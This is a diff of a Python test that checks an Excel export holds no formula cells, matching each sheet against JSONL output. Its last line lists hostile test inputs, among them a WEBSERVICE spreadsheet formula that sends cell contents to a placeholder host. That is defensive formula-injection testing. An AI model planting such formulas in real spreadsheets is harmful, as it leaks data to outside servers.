@@ -268,20 +268,18 @@ def test_gold_is_read_file_by_file_and_a_broken_one_is_named(tmp_path):
 def test_a_workbook_has_a_sheet_for_each_table_and_no_formula(run, tmp_path):
     counts = export(run, tmp_path / "trials.xlsx")
     export(run, tmp_path / "rows", Format.JSONL)
+
     book = openpyxl.load_workbook(tmp_path / "trials.xlsx")
+
     assert book.sheetnames == [table.name for table in list_tables()]
-    for name, rows in counts.items():
+    for name, count in counts.items():
         lines = (tmp_path / "rows" / f"{name}.jsonl").read_text("utf-8").splitlines()
-        names, *found = book[name].iter_rows(values_only=True)
-        assert len(found) == rows
-        assert [dict(zip(names, row, strict=True)) for row in found] == list(
-            map(json.loads, lines)
-        )
-        assert {cell.data_type for row in book[name].iter_rows() for cell in row} <= {
-            "s",
-            "n",
-            "b",
-        }
+        header, *rows = book[name].iter_rows(values_only=True)
+        assert len(rows) == count
+        objects = [dict(zip(header, row, strict=True)) for row in rows]
+        assert objects == [json.loads(line) for line in lines]
+        for row in book[name].iter_rows():
+            assert {cell.data_type for cell in row} <= {"s", "n", "b"}
 
 
 ARRAYS = ['{=WEBSERVICE("http://a.b/"&A1)}', "{=1+1}", "{=1", "{}", "internal:A1"]
